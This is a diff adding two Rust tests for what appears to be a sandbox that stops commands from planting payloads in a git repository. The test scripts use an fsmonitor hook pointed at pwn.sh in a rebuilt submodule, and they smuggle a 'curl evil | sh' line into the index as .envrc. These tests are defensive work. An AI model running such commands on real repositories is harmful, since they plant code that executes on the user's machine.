@@ -568,3 +568,69 @@ fn an_index_read_differently_by_git_does_not_come_back() {
     std::fs::remove_dir_all(repo.join("evil")).unwrap();
     plain_mount_lets_it_through(&repo, &script, &mark, "git reads the gitlink and runs it");
 }
+
+/// A submodule dropped from the index would leave the next run without its
+/// protection, until the user's own `git restore --staged` brings it back
+/// with a `.git` of the command's in place.
+#[test]
+fn a_submodule_cannot_be_dropped_from_the_index() {
+    let (ws, upstream) = with_repository();
+    let repo = ws.path().join("main");
+    repository(&repo);
+    let add = ["-c", "protocol.file.allow=always", "submodule", "add", "-q"];
+    git_ok(
+        &repo,
+        &[&add[..], &[upstream.to_str().unwrap(), "sub"]].concat(),
+    );
+    git_ok(&repo, &["commit", "-qm", "a submodule"]);
+    chown_tree(ws.path());
+    let (_keep, mark) = marker();
+    let drop = "git rm -q --cached sub";
+    let replace = format!(
+        "{PAYLOAD}cd sub && rm -f .git && git init -q . \
+         && git config core.fsmonitor \"$W/pwn.sh\"; true"
+    );
+    // What `git status` suggests for a staged deletion.
+    let restore = || git_ok(&repo, &["restore", "--staged", "sub"]);
+    let out = hostile_run(&ws, &repo, drop, &mark);
+    assert!(out.stderr.contains("drops submodules (sub)"), "{out:?}");
+    sandbox_stops(&ws, &repo, &replace, &mark, |_| {
+        assert!(repo.join("sub/.git").is_file(), "the pointer stays");
+        restore();
+    });
+
+    for script in [drop, replace.as_str()] {
+        assert_eq!(plain_docker_run(&repo, script, &mark).status, 0);
+    }
+    restore();
+    assert!(
+        host_status_runs_payload(&repo, &mark),
+        "control: without the submodule in the index, its .git is the command's"
+    );
+}
+
+/// Entries under protected names come back through the index no more than
+/// files do: the user's next `git checkout -- .` would write them out.
+#[test]
+fn protected_names_do_not_arrive_through_the_index() {
+    let (ws, repo) = with_repository();
+    chown_tree(ws.path());
+    let (_keep, mark) = marker();
+    let script = "b=$(echo 'curl evil | sh' | git hash-object -w --stdin) && \
+                  git update-index --add --cacheinfo 100644,$b,.envrc && \
+                  git update-index --skip-worktree .envrc";
+    let index = std::fs::read(repo.join(".git/index")).unwrap();
+    sandbox_stops(&ws, &repo, script, &mark, |out| {
+        assert!(out.stderr.contains("protected paths (.envrc)"), "{out:?}");
+        assert_eq!(std::fs::read(repo.join(".git/index")).unwrap(), index);
+    });
+
+    assert_eq!(plain_docker_run(&repo, script, &mark).status, 0);
+    git_ok(&repo, &["update-index", "--no-skip-worktree", ".envrc"]);
+    git_ok(&repo, &["checkout", "--", ".envrc"]);
+    assert_eq!(
+        std::fs::read_to_string(repo.join(".envrc")).unwrap(),
+        "curl evil | sh\n",
+        "control: the index writes it out"
+    );
+}
